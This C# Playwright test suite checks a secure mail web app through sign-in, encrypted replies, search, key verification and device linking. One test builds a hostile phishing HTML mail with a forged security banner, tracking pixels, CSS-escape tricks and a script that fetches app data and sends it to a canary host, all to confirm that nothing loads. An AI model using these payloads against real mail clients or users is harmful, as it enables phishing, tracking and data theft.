using System.Text.RegularExpressions;
using Letterlock.Client.Store;
using Letterlock.Client.Validation;
using MailKit.Net.Smtp;
using MailKit.Security;
using Microsoft.Playwright;
using MimeKit;
using static Microsoft.Playwright.Assertions;

namespace Letterlock.Web.Tests.Browser;

/// <summary>
/// The web app as a person uses it, in headless Chromium against the sandbox: signing in by link, reading with the
/// security banner, replying end to end, a hostile HTML mail that loads nothing and cannot imitate the banner, search,
/// verifying a contact by safety number. Screenshots of the main screens are taken on the way.
/// </summary>
[Collection(BrowserCollection.Name)]
[Trait(TestCategory.Name, TestCategory.Browser)]
public sealed class BrowserTests(BrowserFixture f)
{
    [Fact]
    public async Task Bob_logs_in_by_link_reads_alices_message_with_its_banner_and_replies_end_to_end_and_alice_answers_back()
    {
        var (context, page, _) = await f.NewPageAsync();
        await using var _ = context;
        var link = f.BobWeb.NewLoginLink();
        await f.LogInAsync(page, link);
        // The one-time token left the address bar at once.
        Assert.DoesNotContain(link.Fragment.TrimStart('#'), page.Url, StringComparison.Ordinal);
        Assert.DoesNotContain("login", page.Url, StringComparison.Ordinal);
        await f.ScreenshotAsync(page, "inbox");

        await page.Locator("#message-list a", new() { HasText = "Welcome to Letterlock" }).First.ClickAsync();
        var banner = page.Locator("#security-banner");
        await Expect(banner).ToHaveAttributeAsync("data-encryption", "end-to-end");
        await Expect(banner).ToHaveAttributeAsync("data-signature", "valid");
        await Expect(banner).ToHaveAttributeAsync("data-tone", "good");
        await Expect(banner).ToContainTextAsync("alice@alpha.test");
        await Expect(page.FrameLocator("#message-frame").Locator("body")).ToContainTextAsync("this message was encrypted on my device");
        await f.ScreenshotAsync(page, "message");

        string marker = "Reply-" + Guid.NewGuid().ToString("N")[..8];
        await page.ClickAsync("#reply");
        await Expect(page.Locator("#compose-to")).ToHaveValueAsync("alice@alpha.test");
        await Expect(page.Locator("#compose-subject")).ToHaveValueAsync("Re: Welcome to Letterlock");
        var plan = page.Locator("#recipient-plan .plan-summary");
        await Expect(plan).ToHaveAttributeAsync("data-outcome", "queued");
        await Expect(plan).ToHaveAttributeAsync("data-encrypted", "true");
        await Expect(page.Locator("#recipient-plan li[data-address='alice@alpha.test']")).ToHaveAttributeAsync("data-protocol", "OpenPGP (PGP/MIME)");
        // Replying to end-to-end mail starts with "send only if encrypted" on.
        await Expect(page.Locator("#compose-only-encrypted")).ToBeCheckedAsync();
        await page.Locator("#compose-text").PressAsync("Control+Home");
        await page.Locator("#compose-text").PressSequentiallyAsync($"Thanks Alice! {marker}");
        await f.ScreenshotAsync(page, "compose");
        await page.ClickAsync("#send");
        await Expect(page.Locator("#toast")).ToContainTextAsync("end-to-end encrypted");

        var reply = await WaitForMessageAsync(f.AliceStore, "alice@alpha.test", m => m.Summary.Subject == "Re: Welcome to Letterlock");
        Assert.Equal(EncryptionState.EndToEnd, reply.Summary.Security.Encryption);
        Assert.Equal(SignatureState.Valid, reply.Summary.Security.Signature);

        // Alice answers from her own web app, and bob's device receives it end to end.
        var (aliceContext, alicePage, _) = await f.NewPageAsync();
        await using var __ = aliceContext;
        await f.LogInAsync(alicePage, f.AliceWeb.NewLoginLink());
        await alicePage.Locator("#message-list a", new() { HasText = "Re: Welcome to Letterlock" }).First.ClickAsync();
        await Expect(alicePage.Locator("#security-banner")).ToHaveAttributeAsync("data-encryption", "end-to-end");
        await Expect(alicePage.FrameLocator("#message-frame").Locator("body")).ToContainTextAsync(marker);
        // The conversation shows both messages.
        await Expect(alicePage.Locator(".thread-list li")).ToHaveCountAsync(2);
        await alicePage.ClickAsync("#reply");
        await Expect(alicePage.Locator("#recipient-plan .plan-summary")).ToHaveAttributeAsync("data-encrypted", "true");
        await alicePage.Locator("#compose-text").PressAsync("Control+Home");
        await alicePage.Locator("#compose-text").PressSequentiallyAsync("Glad it arrived.");
        await alicePage.ClickAsync("#send");
        await Expect(alicePage.Locator("#toast")).ToContainTextAsync("end-to-end encrypted");
        var answer = await WaitForMessageAsync(f.BobStore, "bob@beta.test", m => m.Summary.Subject == "Re: Welcome to Letterlock");
        Assert.Equal(EncryptionState.EndToEnd, answer.Summary.Security.Encryption);
        Assert.Equal(SignatureState.Valid, answer.Summary.Security.Signature);
        f.AssertNoPageErrors();
    }

    [Fact]
    public async Task A_hostile_HTML_mail_loads_nothing_remote_reaches_nothing_of_the_app_and_cannot_imitate_the_banner()
    {
        string subject = "Your account statement " + Guid.NewGuid().ToString("N")[..6];
        string c = f.Canary;
        string html = $$"""
            <html><head>
            <meta http-equiv="refresh" content="0;url={{c}}/refresh">
            <link rel="stylesheet" href="{{c}}/link.css">
            <style>@import url({{c}}/import.css); body { background: url('{{c}}/bg.png'); } .x { background-image: u\72l({{c}}/escaped.png) }</style>
            <base href="{{c}}/base/">
            </head><body>
            <div class="security-banner good" id="security-banner" data-encryption="end-to-end" data-signature="valid"
                 style="position:fixed;top:-400px;left:0;right:0;height:120px;z-index:99999;background:#e3f5eb;border:2px solid green">
              LETTERLOCK SECURITY CHECK: End-to-end encrypted. Signed by your bank with a key you verified.
            </div>
            <p>Dear customer, please confirm your details.</p>
            <img src="{{c}}/pixel.gif" width="1" height="1">
            <img srcset="{{c}}/srcset.png 2x">
            <div style="background:url({{c}}/inline-style.png)">styled</div>
            <script>fetch('{{c}}/script'); parent.document.title = 'owned'; fetch('/api/accounts').then(r => fetch('{{c}}/stolen?' + r.status));</script>
            <img src="x" onerror="fetch('{{c}}/onerror')">
            <form action="{{c}}/form" method="post"><input name="pin" value="1234"><button id="go">Confirm</button></form>
            <iframe src="{{c}}/frame"></iframe>
            <object data="{{c}}/object"></object>
            <svg><image href="{{c}}/svg-image.png"/></svg>
            <video poster="{{c}}/poster.png"></video>
            <a id="phish" href="{{c}}/click">Log in to your bank</a>
            </body></html>
            """;
        var message = new MimeMessage();
        message.From.Add(new MailboxAddress("Your Bank", "security@bank-alerts.test"));
        message.To.Add(new MailboxAddress("Bob", "bob@beta.test"));
        message.Subject = subject;
        message.Body = new TextPart("html") { Text = html };
        await SendFromOutsideAsync(message);
        await WaitForMessageAsync(f.BobStore, "bob@beta.test", m => m.Summary.Subject == subject);

        var (context, page, requests) = await f.NewPageAsync();
        await using var _ = context;
        await f.LogInAsync(page, f.BobWeb.NewLoginLink());
        await page.Locator("#message-list a", new() { HasText = subject }).First.ClickAsync();
        var frame = page.FrameLocator("#message-frame");
        await Expect(frame.Locator("body")).ToContainTextAsync("Dear customer");

        // The real banner is the app's: legacy mail, not encrypted end to end, not signed.
        var banner = page.Locator("#security-banner");
        await Expect(banner).ToHaveAttributeAsync("data-encryption", "provider");
        await Expect(banner).ToHaveAttributeAsync("data-signature", "none");
        await Expect(banner).ToHaveAttributeAsync("data-tone", "neutral");
        await Expect(page.Locator("#remote-notice")).ToContainTextAsync("blocked");

        // The fake banner exists only inside the frame, and the frame sits wholly below the real banner.
        var fake = frame.Locator("#security-banner");
        await Expect(fake).ToHaveCountAsync(1);
        var real = (await banner.BoundingBoxAsync())!;
        var frameBox = (await page.Locator("#message-frame").BoundingBoxAsync())!;
        Assert.True(frameBox.Y >= real.Y + real.Height, $"frame top {frameBox.Y} is below the banner's bottom {real.Y + real.Height}");
        var fakeBox = await fake.BoundingBoxAsync();
        Assert.True(fakeBox is null || fakeBox.Y + fakeBox.Height <= frameBox.Y || fakeBox.Y >= frameBox.Y,
            "whatever the message draws stays inside its frame");
        // What is at the banner's place on the screen is the banner itself, not something drawn by the message.
        bool bannerOnTop = await page.EvaluateAsync<bool>("""
            () => {
              const banner = document.getElementById('security-banner');
              const r = banner.getBoundingClientRect();
              return [[0.5, 0.5], [0.05, 0.1], [0.95, 0.9]].every(([fx, fy]) => banner.contains(document.elementFromPoint(r.left + r.width * fx, r.top + r.height * fy)));
            }
            """);
        Assert.True(bannerOnTop);

        // The frame's document has an opaque origin: it reaches nothing of the app.
        var frameHandle = await (await page.QuerySelectorAsync("#message-frame"))!.ContentFrameAsync();
        Assert.Equal("null", await frameHandle!.EvaluateAsync<string>("() => window.origin"));
        string reach = await frameHandle.EvaluateAsync<string>("() => { try { return parent.document.title; } catch (e) { return 'blocked:' + e.name; } }");
        Assert.Equal("blocked:SecurityError", reach);
        Assert.NotEqual("owned", await page.TitleAsync());

        // Clicking the form's button submits nothing (no forms in the sandbox, no form elements left at all).
        Assert.Equal(0, await frame.Locator("form, input, button, script, iframe, object").CountAsync());
        await f.ScreenshotAsync(page, "hostile-mail");

        // Nothing was requested from anywhere but the app: not the canary, not by the browser's own record.
        Assert.Empty(f.CanaryHits);
        var origin = f.BobWeb.Url.GetLeftPart(UriPartial.Authority);
        var foreign = requests.Where(r => !r.StartsWith(origin, StringComparison.Ordinal) && !r.StartsWith("data:", StringComparison.Ordinal)).ToList();
        Assert.True(foreign.Count == 0, "requests outside the app: " + string.Join(", ", foreign));
        Assert.Contains(requests, r => r.Contains("/frame/", StringComparison.Ordinal));

        // The control: allowing remote images from this sender does make the canary see the images (so the check above
        // would have caught a load), and still nothing else: no script, form, frame, style sheet or refresh.
        await page.ClickAsync("#allow-remote");
        await Expect(page.Locator("#remote-notice")).ToContainTextAsync("are loaded");
        await Expect(page.FrameLocator("#message-frame").Locator("body")).ToContainTextAsync("Dear customer");
        using var wait = new CancellationTokenSource(BrowserFixture.Generous);
        while (!f.CanaryHits.Contains("/pixel.gif"))
        {
            await Task.Delay(100, wait.Token);
        }

        var loaded = f.CanaryHits.ToHashSet();
        string[] mayLoad = ["/pixel.gif", "/bg.png", "/inline-style.png", "/escaped.png", "/srcset.png", "/svg-image.png", "/poster.png"];
        Assert.True(loaded.All(mayLoad.Contains), "loaded beyond images: " + string.Join(", ", loaded.Except(mayLoad)));
        // The choice is remembered for the sender, across sessions.
        await page.ReloadAsync();
        await Expect(page.Locator("#remote-notice")).ToContainTextAsync("are loaded");
        await page.ClickAsync("#block-remote");
        await Expect(page.Locator("#remote-notice")).ToContainTextAsync("blocked");
        f.AssertNoPageErrors();
    }

    [Fact]
    public async Task Search_finds_mail_by_its_words_with_the_encrypted_index()
    {
        string word = "Zebrafish" + Guid.NewGuid().ToString("N")[..6];
        var message = new MimeMessage();
        message.From.Add(new MailboxAddress("Carol", "carol@gamma.test"));
        message.To.Add(new MailboxAddress("Bob", "bob@beta.test"));
        message.Subject = "Field notes";
        message.Body = new TextPart("plain") { Text = $"The {word} count for this season is in." };
        await SendFromOutsideAsync(message);
        await WaitForMessageAsync(f.BobStore, "bob@beta.test", m => m.Summary.Subject == "Field notes");

        var (context, page, _) = await f.NewPageAsync();
        await using var _ = context;
        await f.LogInAsync(page, f.BobWeb.NewLoginLink());
        await page.FillAsync("#search-input", $"{word.ToLowerInvariant()} from:carol@gamma.test");
        await page.PressAsync("#search-input", "Enter");
        await Expect(page.Locator("#search-results #message-list a")).ToHaveCountAsync(1);
        await Expect(page.Locator("#search-results #message-list a")).ToContainTextAsync("Field notes");
        await page.FillAsync("#search-input", "encrypted from:alice@alpha.test");
        await page.PressAsync("#search-input", "Enter");
        await Expect(page.Locator("#search-results #message-list a", new() { HasText = "Welcome to Letterlock" }).First).ToBeVisibleAsync();
        await f.ScreenshotAsync(page, "search");
        await page.FillAsync("#search-input", $"{word} from:alice@alpha.test");
        await page.PressAsync("#search-input", "Enter");
        await Expect(page.Locator("#search-results")).ToContainTextAsync("0 found");
        f.AssertNoPageErrors();
    }

    [Fact]
    public async Task Bob_verifies_alices_key_by_comparing_safety_numbers_and_the_banner_then_says_verified()
    {
        var (context, page, _) = await f.NewPageAsync();
        await using var _ = context;
        await f.LogInAsync(page, f.BobWeb.NewLoginLink());
        await page.ClickAsync("text=Contacts & trust");
        await page.ClickAsync("#contacts a:has-text('alice@alpha.test')");
        var number = (await page.Locator("#safety-number").TextContentAsync())!.Trim();
        Assert.Matches(new Regex(@"^(\d{5} ){11}\d{5}$"), number);

        // Alice's side shows the same 60 digits for bob: what the two would read to each other.
        var (aliceContext, alicePage, _) = await f.NewPageAsync();
        await using var __ = aliceContext;
        await f.LogInAsync(alicePage, f.AliceWeb.NewLoginLink());
        await alicePage.GotoAsync(f.AliceWeb.Url + "#/a/" + Json.Id((await f.AliceStore.Accounts.FindAsync("alice@alpha.test"))!.Id.Value) + "/contacts/bob%40beta.test");
        Assert.Equal(number, (await alicePage.Locator("#safety-number").TextContentAsync())!.Trim());

        await f.ScreenshotAsync(page, "contact-verify");
        await page.ClickAsync("#verify-safety");
        await Expect(page.Locator("#contact")).ToHaveAttributeAsync("data-level", "verified");
        await Expect(page.Locator("#key-history")).ToContainTextAsync("You verified this key");
        var bob = (await f.BobStore.Accounts.FindAsync("bob@beta.test"))!;
        Assert.Equal(KeyValidationLevel.Verified, (await f.BobStore.Contacts.GetAsync(bob.Id, "alice@alpha.test"))!.KeyState.Level);

        // Alice's message now names the level as it is.
        await page.GotoAsync(f.BobWeb.Url + "#/a/" + Json.Id(bob.Id.Value));
        await page.Locator("#message-list a", new() { HasText = "Welcome to Letterlock" }).First.ClickAsync();
        await Expect(page.Locator("#security-banner")).ToHaveAttributeAsync("data-trust", "verified");
        await Expect(page.Locator("#security-banner")).ToContainTextAsync("a key you verified");
        f.AssertNoPageErrors();
    }

    [Fact]
    public async Task The_account_page_shows_the_key_and_the_bridge_settings()
    {
        var (context, page, _) = await f.NewPageAsync();
        await using var _ = context;
        await f.LogInAsync(page, f.AliceWeb.NewLoginLink());
        await page.ClickAsync("text=Account & devices");
        await Expect(page.Locator("#own-fingerprint")).ToHaveTextAsync(new Regex(@"^([0-9A-F]{4} ){9}[0-9A-F]{4}$"));
        await Expect(page.Locator("#bridge-password")).Not.ToContainTextAsync(f.Sandbox.Info.Accounts[0].Password);
        await f.ScreenshotAsync(page, "account");
        await page.ClickAsync("#reveal-password");
        await Expect(page.Locator("#bridge-password")).ToHaveTextAsync(f.Sandbox.Info.Accounts[0].Password);
        f.AssertNoPageErrors();
    }

    [Fact]
    public async Task Bob_sets_a_password_a_second_device_joins_with_it_and_bob_revokes_that_device()
    {
        var (context, page, _) = await f.NewPageAsync();
        await using var _ = context;
        page.Dialog += async (_, dialog) => await dialog.AcceptAsync();
        await f.LogInAsync(page, f.BobWeb.NewLoginLink());
        await page.ClickAsync("text=Account & devices");
        await Expect(page.Locator("#device-list tbody tr")).ToHaveCountAsync(1);
        await Expect(page.Locator("#access-state")).ToContainTextAsync("Password: not set");

        const string password = "tapioca lighthouse 42";
        await page.FillAsync("#new-password", password);
        await page.ClickAsync("#set-password");
        await Expect(page.Locator("#access-state")).ToContainTextAsync("Password: set");

        // A second device joins bob's account with that password, through the sandbox's providers.
        var bob = (await f.BobStore.Accounts.FindAsync("bob@beta.test"))!;
        string dir = Path.Combine(Path.GetTempPath(), "letterlock-second-device-" + Guid.NewGuid().ToString("N"));
        Directory.CreateDirectory(dir);
        try
        {
            using var http = new HttpClient(Letterlock.Client.Net.HttpFetch.CreateHandler(f.Sandbox.HostMap, [f.Sandbox.CaRoot])) { Timeout = BrowserFixture.Generous };
            using var phone = await LocalStore.CreateAsync(Path.Combine(dir, "client.db"), StoreUnlock.WithPassphrase("phone"),
                new LocalStoreOptions { Argon2MemoryKiB = 8 * 1024, Argon2Passes = 1 });
            var onPhone = await Letterlock.Client.Accounts.AccountPassword.LoginAsync(phone, new Letterlock.Client.Sync.ProviderClient(http, bob.ProviderUrl!),
                "bob@beta.test", password, "bob's phone", credentials => new Letterlock.Client.Sync.ProviderClient(http, bob.ProviderUrl!, credentials));

            await page.ReloadAsync();
            var row = page.Locator($"#device-list tr[data-device-id='{Json.Id(onPhone.DeviceId!.Value)}']");
            await Expect(row).ToHaveAttributeAsync("data-revoked", "false");
            await Expect(row).ToContainTextAsync("bob's phone");
            await row.Locator("button.revoke").ClickAsync();
            await Expect(row).ToHaveAttributeAsync("data-revoked", "true");
            await Expect(row).ToContainTextAsync("revoked");

            // The provider dropped the phone: it can no longer authenticate.
            var phoneProvider = await Letterlock.Client.Sync.AccountRegistration.ConnectAsync(phone, onPhone, http);
            var refused = await Assert.ThrowsAsync<Letterlock.Client.Sync.ProviderProblemException>(() => phoneProvider.ListDevicesAsync());
            Assert.Equal(401, refused.Status);
        }
        finally
        {
            Directory.Delete(dir, recursive: true);
        }

        f.AssertNoPageErrors();
    }

    [Fact]
    public async Task Alice_approves_a_linked_device_by_its_code_after_comparing_the_digits_and_a_refused_comparison_sends_nothing()
    {
        var (context, page, _) = await f.NewPageAsync();
        await using var _ = context;
        await f.LogInAsync(page, f.AliceWeb.NewLoginLink());
        await page.ClickAsync("text=Account & devices");
        await Expect(page.Locator("#device-list")).ToBeVisibleAsync();
        var alice = (await f.AliceStore.Accounts.FindAsync("alice@alpha.test"))!;
        string dir = Path.Combine(Path.GetTempPath(), "letterlock-linked-device-" + Guid.NewGuid().ToString("N"));
        Directory.CreateDirectory(dir);
        try
        {
            using var http = new HttpClient(Letterlock.Client.Net.HttpFetch.CreateHandler(f.Sandbox.HostMap, [f.Sandbox.CaRoot])) { Timeout = BrowserFixture.Generous };
            using var tablet = await LocalStore.CreateAsync(Path.Combine(dir, "client.db"), StoreUnlock.WithPassphrase("tablet"),
                new LocalStoreOptions { Argon2MemoryKiB = 8 * 1024, Argon2Passes = 1 });
            var anonymous = new Letterlock.Client.Sync.ProviderClient(http, alice.ProviderUrl!);
            Func<Letterlock.Client.Sync.DeviceCredentials, Letterlock.Client.Sync.ProviderClient> connect =
                credentials => new Letterlock.Client.Sync.ProviderClient(http, alice.ProviderUrl!, credentials);

            // First the person answers that the digits differ: the link ends and the new device receives nothing.
            using (var refused = await Letterlock.Client.Accounts.DeviceLink.StartAsync(anonymous, "alice's old tablet"))
            {
                var shown = new TaskCompletionSource<string>(TaskCreationOptions.RunContinuationsAsynchronously);
                var joining = refused.CompleteAsync(tablet, connect, (sas, _) => { shown.TrySetResult(sas); return Task.CompletedTask; });
                await page.FillAsync("#link-code", refused.Code);
                await page.ClickAsync("#approve-device");
                await Expect(page.Locator("#sas-digits")).ToHaveTextAsync(await shown.Task.WaitAsync(BrowserFixture.Generous));
                await page.ClickAsync("#sas-different");
                await Expect(page.Locator("#sas")).ToHaveCountAsync(0);
                var failed = await Assert.ThrowsAsync<Letterlock.Client.Accounts.LinkFailedException>(() => joining.WaitAsync(BrowserFixture.Generous));
                Assert.Contains("ended the link", failed.Message, StringComparison.Ordinal);
                Assert.Empty(await tablet.Accounts.ListAsync());
            }

            // Then with the same digits: the tablet becomes a device of alice's account, in the list at once.
            using var link = await Letterlock.Client.Accounts.DeviceLink.StartAsync(anonymous, "alice's tablet");
            var digits = new TaskCompletionSource<string>(TaskCreationOptions.RunContinuationsAsynchronously);
            var joined = link.CompleteAsync(tablet, connect, (sas, _) => { digits.TrySetResult(sas); return Task.CompletedTask; });
            // The text of the new device's QR code works as well as the typed code.
            await page.FillAsync("#link-code", Letterlock.Client.Accounts.DeviceLink.QrText(alice.ProviderUrl!, link.Code));
            await page.ClickAsync("#approve-device");
            await Expect(page.Locator("#sas-digits")).ToHaveTextAsync(await digits.Task.WaitAsync(BrowserFixture.Generous));
            await f.ScreenshotAsync(page, "device-approve");
            await page.ClickAsync("#sas-same");
            var onTablet = await joined.WaitAsync(BrowserFixture.Generous);
            Assert.Equal("alice@alpha.test", onTablet.Address);
            var row = page.Locator($"#device-list tr[data-device-id='{Json.Id(onTablet.DeviceId!.Value)}']");
            await Expect(row).ToContainTextAsync("alice's tablet");
            await Expect(row).ToHaveAttributeAsync("data-revoked", "false");
        }
        finally
        {
            Directory.Delete(dir, recursive: true);
        }

        f.AssertNoPageErrors();
    }

    /// <summary>Legacy mail from outside: straight to bob's provider's MX, as any server on the internet would send it.</summary>
    private async Task SendFromOutsideAsync(MimeMessage message)
    {
        var mx = f.Sandbox.Providers[1].SmtpEndPoint;
        using var smtp = new SmtpClient();
        await smtp.ConnectAsync(mx.Address.ToString(), mx.Port, SecureSocketOptions.None);
        await smtp.SendAsync(message);
        await smtp.DisconnectAsync(true);
    }

    /// <summary>Waits (woken by the store, re-checked every second) until the account's INBOX holds a matching message.</summary>
    private static async Task<StoredMessage> WaitForMessageAsync(LocalStore store, string address, Func<StoredMessage, bool> match)
    {
        var account = (await store.Accounts.FindAsync(address))!;
        var mail = store.Mail(account.Id);
        var inbox = (await mail.FindFolderAsync(FolderRole.Inbox))!;
        using var changed = new SemaphoreSlim(0);
        void OnChanged(StoreChange change) => changed.Release();
        store.Changed += OnChanged;
        try
        {
            using var timeout = new CancellationTokenSource(BrowserFixture.Generous);
            while (true)
            {
                if ((await mail.ListAsync(inbox.Id, timeout.Token)).FirstOrDefault(match) is { } found)
                {
                    return found;
                }

                await changed.WaitAsync(TimeSpan.FromSeconds(1), timeout.Token);
            }
        }
        finally
        {
            store.Changed -= OnChanged;
        }
    }
}
